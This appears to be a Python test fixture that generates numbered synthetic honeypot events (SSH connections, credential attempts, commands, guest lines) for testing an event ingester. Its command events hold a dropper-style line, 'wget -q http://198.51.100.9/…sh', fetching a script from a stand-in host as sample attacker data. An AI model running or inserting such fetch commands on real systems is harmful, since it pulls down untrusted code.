"""The numbered lines that go through the fire: event n of a worker, as its collector would write it.

Everything in an event follows from the worker and the number, so that who finds it in the database can tell whether it
is the one that was written. The types are mixed, so that whatever the ingester derives from them is derived here too;
lengths run from 300 to 900 bytes, so that cuts fall at every place of a line.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from decnet_core.events import Event, EventType, Trust

SOURCE_PREFIX = "fire:"
FOREIGN_PREFIX = "foreign line "
_BEGAN = datetime(2026, 11, 23, 16, 0, tzinfo=UTC)
_LONGEST_TEXT = 600
_LONGEST_FOREIGN = 300
_KINDS = (
    (EventType.CONNECTION_OPENED, Trust.SENSOR),
    (EventType.CREDENTIAL_TRIED, Trust.SENSOR),
    (EventType.LOGIN_FAILED, Trust.GUEST),
    (EventType.COMMAND_RUN, Trust.SENSOR),
    (EventType.GUEST_LINE, Trust.GUEST),
)


def source_of(worker: str) -> str:
    """Name the source of a worker's numbered events; their cursors are the numbers."""
    return SOURCE_PREFIX + worker


def type_of(number: int) -> str:
    """Tell the type of an event."""
    return _KINDS[number % len(_KINDS)][0].value


def text_of(worker: str, number: int) -> str:
    """Make an event's words; `]`, a quote and a backslash in each, and no two alike."""
    return f'line {number} of {worker} "]\\ {"x" * (number * 7919 % _LONGEST_TEXT)}'


def foreign_text(worker: str, number: int) -> str:
    """Make line `number` of a worker's log that another program writes: no event of ours, no address in it."""
    return f"{FOREIGN_PREFIX}{number} of {worker} {'y' * (number * 7919 % _LONGEST_FOREIGN)}"


def numbered(worker: str, number: int) -> Event:
    """Make event `number` of a worker."""
    event_type, trust = _KINDS[number % len(_KINDS)]
    fields: dict[str, str] = {}
    if event_type in (EventType.CREDENTIAL_TRIED, EventType.LOGIN_FAILED):
        fields = {"user": f"user{number % 1009}", "password": f"secret {number % 4001}"}
    elif event_type is EventType.COMMAND_RUN:
        fields = {"command": f"wget -q http://198.51.100.9/{number % 211}.sh"}
    return Event(
        at=_BEGAN + timedelta(milliseconds=number),
        decky=f"web-{number % 7:02}",
        service="ssh",
        event_type=event_type,
        trust=trust,
        source=source_of(worker),
        cursor=str(number),
        src_ip=f"192.0.2.{number % 250}",
        src_port=40000 + number % 20000,
        session=f"{number % 9973:016x}",
        fields=fields,
        text=text_of(worker, number),
    )
